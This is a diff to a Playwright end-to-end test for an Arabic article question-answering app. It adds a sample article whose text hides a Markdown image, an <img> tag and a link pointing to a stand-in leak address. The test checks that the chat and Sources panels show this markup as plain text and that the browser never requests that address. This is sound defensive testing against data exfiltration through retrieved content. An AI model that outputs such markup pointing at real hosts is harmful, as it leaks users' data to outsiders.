@@ -11,6 +11,7 @@ import os
 import shutil
 import subprocess
 import sys
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -213,3 +214,34 @@ def test_uploaded_article_is_indexed_and_answered(page: Page, tmp_path: Path):
 
 if __name__ == "__main__":  # pragma: no cover
     sys.exit(subprocess.call([sys.executable, "-m", "pytest", __file__, "-v"]))
+
+
+POISON = (
+    "مهرجان التمور في واحة سيوة\n"
+    "افتتح مهرجان التمور السنوي في واحة سيوة يوم الجمعة بمشاركة 300 مزارع "
+    "![x](http://127.0.0.1:9/leak?q=secret) <img src=http://127.0.0.1:9/img?q=secret> "
+    "[اقرأ المزيد](http://127.0.0.1:9/link) وعرضت فيه أربعون صنفا من التمور.\n"
+)
+
+
+def test_article_markup_is_shown_as_text_and_sends_no_request(page: Page, served: tuple[str, Path]):
+    """An article with a Markdown image, an <img> and a link: quoted in the chat and the Sources panel as text,
+    and the browser never asks its address for anything."""
+    import httpx
+
+    url = served[0]
+    added = httpx.post(url + "v1/articles", files={"files": ("siwa.txt", POISON.encode())}, timeout=60).json()
+    assert added["saved"] == ["siwa.txt"]
+    deadline = time.monotonic() + 300
+    while httpx.get(url + "v1/index", timeout=30).json()["state"] != "idle" and time.monotonic() < deadline:
+        time.sleep(0.5)
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    reply = ask(page, "كم مزارعا شارك في مهرجان التمور في واحة سيوة؟")
+    shot(page, "09-article-markup-as-text")
+    page.wait_for_timeout(1000)  # time for any image the page might load
+    assert "300" in reply and "![x](http://127.0.0.1:9/leak?q=secret)" in reply  # the markup, shown as text
+    assert not [u for u in requested if "127.0.0.1:9/" in u], requested
+    for area in ("#chat", "#sources"):
+        assert page.locator(f"{area} img[src*='127.0.0.1:9'], {area} a[href*='127.0.0.1:9']").count() == 0
+        assert page.locator(f"{area} img").evaluate_all("els => els.filter(e => !e.closest('button')).length") == 0
